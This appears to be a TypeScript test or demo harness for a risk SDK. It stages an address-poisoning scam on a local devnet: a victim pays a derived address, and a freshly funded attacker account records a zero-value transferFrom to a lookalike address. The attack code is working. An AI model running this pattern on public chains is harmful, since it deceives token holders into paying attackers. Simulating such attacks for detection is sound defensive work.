import { craftLookalike } from '@holdfast/sdk/risk'
import {
  type Address,
  type Client,
  createClient,
  encodeFunctionData,
  erc20Abi,
  getAddress,
  type Hash,
  type Hex,
  http,
  keccak256,
  slice,
  stringToHex,
  type WalletClient,
} from 'viem'
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
import { sendTransaction, waitForTransactionReceipt } from 'viem/actions'

/** Bob of the walk: one for each Alice. It has no key, and needs none: what it is paid is looked at, and never spent. */
export function bobOf(alice: Address): Address {
  return getAddress(slice(keccak256(`${stringToHex('holdfast:walk:bob')}${alice.slice(2).toLowerCase()}` as Hex), 12))
}

/**
 * What happens to people who pay: Alice pays Bob, and a stranger records a transfer of nothing from her to an address that looks
 * like Bob's. Any account may record one.
 *
 * @param devnet - Base URL, on this machine.
 */
export async function attack(
  devnet: string,
  { usdc, reader, alice }: { usdc: Address; reader: Client; alice: WalletClient },
): Promise<void> {
  const { account, chain = null } = alice
  if (account === undefined) throw new Error('Alice has no account.')
  const bob = bobOf(account.address)
  const paid = encodeFunctionData({ abi: erc20Abi, functionName: 'transfer', args: [bob, 5_000_000n] })
  await mined(reader, await sendTransaction(alice, { account, chain, to: usdc, data: paid }))

  const mallory = privateKeyToAccount(generatePrivateKey())
  const body = JSON.stringify({ address: mallory.address, amount: '1000000' })
  const funded = await fetch(`${devnet}/primary/faucet`, { method: 'POST', body })
  if (!funded.ok) throw new Error('The faucet of the devnet gave nothing.')
  const wallet = createClient({ account: mallory, chain: chain ?? undefined, transport: http(`${devnet}/primary/rpc`) })
  const bait = encodeFunctionData({
    abi: erc20Abi,
    functionName: 'transferFrom',
    args: [account.address, craftLookalike(bob), 0n],
  })
  await mined(reader, await sendTransaction(wallet, { account: mallory, chain, to: usdc, data: bait }))
}

async function mined(reader: Client, hash: Hash): Promise<void> {
  const { status } = await waitForTransactionReceipt(reader, { hash })
  if (status !== 'success') throw new Error(`${hash} was undone.`)
}
